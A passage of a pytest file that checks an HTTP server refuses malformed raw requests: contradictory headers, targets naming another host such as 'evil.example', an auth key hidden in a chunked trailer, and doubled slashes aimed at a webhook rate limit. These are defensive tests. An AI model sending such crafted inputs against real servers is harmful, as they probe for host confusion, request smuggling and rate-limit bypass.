    return b"\r\n".join((f"{method} {target} HTTP/1.1".encode(), *headers, b"", b""))


@pytest.mark.parametrize(("headers", "query"), CONTRADICTIONS.values(), ids=CONTRADICTIONS)
def test_a_request_that_contradicts_itself_is_refused_by_every_way_in(
    either_way: Server, project: str, headers: tuple[bytes, ...], query: str
) -> None:
    once = (*headers, b"Connection: close")
    for data in (
        report(project, once, query),
        ask("GET", f"/api/projects{query}", once),
        ask("GET", f"/api/events/stream{query}", once),
        ask("GET", f"/ws{query}", (*headers, *UPGRADE)),
        ask("GET", f"/health{query}", once),
    ):
        answer = raw.exchange(either_way, data)
        assert answer.status == 400, data
        assert json.loads(answer.body)["error"]["code"] == "BAD_REQUEST"
    assert either_way.http.get("/api/events", params={"project": project}).json()["events"] == []


@pytest.mark.parametrize("target", ["http://evil.example", "HTTP://localhost@evil.example"])
def test_an_address_that_names_another_host_is_refused(
    either_way: Server, project: str, target: str
) -> None:
    headers = (HOST, RIGHT, b"Connection: close")
    for data in (
        report(project, headers),
        ask("GET", "/api/projects", headers),
        ask("GET", "/health?", headers),
        ask("GET", "/ws", (HOST, RIGHT, *UPGRADE)),
    ):
        answer = raw.exchange(either_way, data.replace(b" /", f" {target}/".encode(), 1))
        assert answer.status == 400, data
        assert json.loads(answer.body)["error"]["code"] == "BAD_REQUEST"
    assert either_way.http.get("/api/events", params={"project": project}).json()["events"] == []
    same = report(project, headers).replace(b" /", b" http://LocalHost/", 1)
    assert raw.exchange(either_way, same).status == 201


@pytest.mark.parametrize(("headers", "query"), PLAIN.values(), ids=PLAIN)
def test_a_request_that_is_plain_is_let_in(
    either_way: Server, project: str, headers: tuple[bytes, ...], query: str
) -> None:
    ends = b"Connection: close"
    assert raw.exchange(either_way, report(project, (*headers, ends), query)).status == 201
    reads = ask("GET", f"/api/projects{query}", (*headers, ends))
    assert raw.exchange(either_way, reads).status == 200


def test_a_key_in_a_trailer_is_none(either_way: Server, project: str) -> None:
    body = report(project, ()).partition(b"\r\n\r\n")[2]
    begin = (HOST, b"Content-Type: application/json", b"Transfer-Encoding: chunked")
    chunks = b"%x\r\n%b\r\n0\r\n%b\r\n\r\n" % (len(body), body, RIGHT)
    answer = raw.exchange(either_way, ask("POST", "/webhook/start", begin) + chunks)
    assert answer.status == 401


def test_no_slashes_lead_past_the_rate_limit(start_server: Callable[..., Server]) -> None:
    server = start_server("--rate-limit-webhook", "1")
    headers = (HOST, RIGHT, b"Connection: close")
    assert raw.exchange(server, report("p", headers)).status == 201
    assert raw.exchange(server, report("p", headers)).status == 429
    for target in ("//webhook/start", "///webhook/start", "/webhook//start"):
        asked = report("p", headers).replace(b"/webhook/start", target.encode(), 1)
        answer = raw.exchange(server, asked)
        assert (answer.status, json.loads(answer.body)["error"]["code"]) == (404, "NOT_FOUND")
    assert len(server.task("p", "t")["events"]) == 1
